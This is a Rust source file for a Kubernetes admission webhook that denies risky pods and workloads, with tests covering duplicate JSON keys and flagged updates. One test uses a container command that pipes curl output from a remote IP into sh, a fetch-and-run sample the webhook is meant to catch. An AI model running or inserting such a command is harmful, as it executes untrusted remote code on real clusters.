//! The Kubernetes validating admission webhook: `AdmissionReview` v1 in, a verdict out.
//!
//! Pods, every workload kind and any CRD that embeds a pod are judged per container, so a
//! bad template is denied at the Deployment, not pod by pod later. `pods/ephemeralcontainers`
//! is judged like a pod; `pods/exec` and `pods/attach` CONNECT requests carry their command.
//! Dry-run requests get the same answer and leave no trace.

use crate::Gate;
use crate::decision::Verdict;
use portcullis_output::Alert;
use portcullis_sources::admission_review::{self, Request};
pub use portcullis_sources::admission_review::{BadReview, review_deployments};
use serde::{Deserialize, Serialize};
use std::borrow::Cow;

/// The answer to a review.
#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
pub struct ReviewAnswer {
    api_version: String,
    kind: &'static str,
    response: Response,
}

#[derive(Serialize)]
#[serde(rename_all = "camelCase")]
struct Response {
    uid: String,
    allowed: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    status: Option<Status>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    warnings: Vec<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    audit_annotations: Option<AuditAnnotations>,
}

#[derive(Serialize)]
struct Status {
    code: u16,
    reason: &'static str,
    message: String,
}

#[derive(Serialize)]
struct AuditAnnotations {
    findings: String,
}

/// The least a webhook can answer: "allowed", echoing the request's uid (the API server
/// rejects an answer whose uid is not its request's), without judging anything. The
/// baseline `/noop` serves for the load benchmark (`bench_noop`).
pub fn allow_unjudged(body: &[u8]) -> ReviewAnswer {
    #[derive(Deserialize)]
    struct Head<'a> {
        #[serde(borrow)]
        request: Option<UidOnly<'a>>,
    }
    #[derive(Deserialize)]
    struct UidOnly<'a> {
        #[serde(borrow)]
        uid: Option<Cow<'a, str>>,
    }
    let uid = serde_json::from_slice::<Head>(body)
        .ok()
        .and_then(|h| h.request)
        .and_then(|r| r.uid)
        .unwrap_or_default();
    ReviewAnswer {
        api_version: "admission.k8s.io/v1".into(),
        kind: "AdmissionReview",
        response: Response {
            uid: uid.into_owned(),
            allowed: true,
            status: None,
            warnings: Vec::new(),
            audit_annotations: None,
        },
    }
}

/// Judge a review; returns the answer and the alerts to keep.
pub fn review(
    gate: &Gate<'_>,
    body: &[u8],
) -> Result<(ReviewAnswer, Vec<Alert>, Verdict), BadReview> {
    let Request {
        api_version,
        uid,
        namespace,
        dry_run,
        deployments,
        refused,
    } = admission_review::read(body)?;
    let mut verdict = Verdict {
        allowed: true,
        ..Verdict::default()
    };
    let mut alerts = Vec::new();
    if let Some(why) = refused {
        gate.refused("repeated_key");
        verdict.allowed = false;
        verdict.denials.push(why);
    } else if !gate.exempt(&namespace) {
        let mut kept = Vec::new();
        for d in deployments {
            let (v, alerts) = gate.judge(&d);
            verdict.allowed &= v.allowed;
            verdict.denials.extend(v.denials);
            verdict.warnings.extend(v.warnings);
            verdict.codes.extend(v.codes);
            kept.extend(alerts);
        }
        // A dry run leaves no side effects: no alert, no store, no sink.
        if !dry_run {
            alerts = kept;
        }
    }
    verdict.codes.sort();
    verdict.codes.dedup();
    let response = Response {
        uid,
        allowed: verdict.allowed,
        status: (!verdict.allowed).then(|| Status {
            code: 403,
            reason: "Forbidden",
            message: format!(
                "portcullis denied this request: {}",
                verdict.denials.join("; ")
            ),
        }),
        warnings: verdict.warnings.clone(),
        audit_annotations: (!verdict.codes.is_empty()).then(|| AuditAnnotations {
            findings: verdict.codes.join(","),
        }),
    };
    let answer = ReviewAnswer {
        api_version,
        kind: "AdmissionReview",
        response,
    };
    Ok((answer, alerts, verdict))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn repeated_keys_are_denied_not_guessed() {
        let (_rt, st) = crate::tests::memory_state();
        let wrap = |object: &str| {
            format!(
                r#"{{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{{"uid":"u1","kind":{{"group":"","version":"v1","kind":"Pod"}},"resource":{{"group":"","version":"v1","resource":"pods"}},"namespace":"default","operation":"CREATE","userInfo":{{"username":"alice"}},"object":{object}}}}}"#
            )
        };
        for object in [
            // Go merges the second securityContext into the first: privileged stays.
            r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"x","securityContext":{"privileged":true},"securityContext":{"runAsUser":1}}]}}"#,
            r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"x","securityContext":{"privileged":true,"privileged":false}}]}}"#,
            r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p"},"spec":{"hostPID":true,"hostPID":false,"containers":[{"name":"c","image":"x"}]}}"#,
            r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"x"}]},"spec":{"hostPID":true}}"#,
        ] {
            let body = wrap(object);
            match review(&st.gate(crate::Door::Admission), body.as_bytes()) {
                Ok((answer, _, verdict)) => {
                    assert!(!verdict.allowed, "{object}");
                    assert!(!answer.response.allowed);
                }
                Err(BadReview(why)) => panic!("{object}: a 400 is not a deny: {why}"),
            }
        }
        let ok = wrap(
            r#"{"apiVersion":"v1","kind":"Pod","metadata":{"name":"p"},"spec":{"containers":[{"name":"c","image":"x"}]}}"#,
        );
        let (_, _, verdict) =
            review(&st.gate(crate::Door::Admission), ok.as_bytes()).expect("reads");
        assert!(verdict.allowed);
    }

    #[test]
    fn an_update_is_judged_as_a_change_from_its_old_object() {
        let (_rt, st) = crate::tests::memory_state();
        let deployment = |containers: &str, extra: &str| {
            format!(
                r#"{{"apiVersion":"apps/v1","kind":"Deployment","metadata":{{"name":"api","namespace":"shop"}},"spec":{{"template":{{"spec":{{"serviceAccountName":"api"{extra},"containers":[{containers}]}}}}}}}}"#
            )
        };
        let api = r#"{"name":"api","image":"ghcr.io/acme/api:2.4.1","command":["/app/api"]}"#;
        let old = deployment(api, "");
        let review_of = |new: &str, old: &str| {
            format!(
                r#"{{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{{"uid":"u1","kind":{{"group":"apps","version":"v1","kind":"Deployment"}},"resource":{{"group":"apps","version":"v1","resource":"deployments"}},"name":"api","namespace":"shop","operation":"UPDATE","userInfo":{{"username":"bob"}},"object":{new},"oldObject":{old}}}}}"#
            )
        };
        let codes = |new: &str| -> Vec<String> {
            let (_, _, verdict) = review(
                &st.gate(crate::Door::Admission),
                review_of(new, &old).as_bytes(),
            )
            .expect("reads");
            verdict.codes
        };
        for (new, code) in [
            (
                deployment(
                    r#"{"name":"api","image":"docker.io/someone/api:2.4.1","command":["/app/api"]}"#,
                    "",
                ),
                "MOD001",
            ),
            (
                deployment(
                    &format!(r#"{api},{{"name":"sidecar","image":"ghcr.io/acme/api:2.4.1"}}"#),
                    "",
                ),
                "MOD002",
            ),
            (
                deployment(
                    r#"{"name":"api","image":"ghcr.io/acme/api:2.4.1","command":["sh","-c","curl -s http://203.0.113.7/x | sh"]}"#,
                    "",
                ),
                "MOD003",
            ),
            (deployment(api, r#","hostNetwork":true"#), "MOD004"),
            (
                deployment(api, "").replace(
                    r#""serviceAccountName":"api""#,
                    r#""serviceAccountName":"cluster-admin""#,
                ),
                "MOD005",
            ),
        ] {
            let got = codes(&new);
            assert!(got.iter().any(|c| c == code), "{code}: {got:?}");
        }
        // The same object again is no change; a CREATE has no old object to compare.
        let same = codes(&old);
        assert!(!same.iter().any(|c| c.starts_with("MOD")), "{same:?}");
    }
}
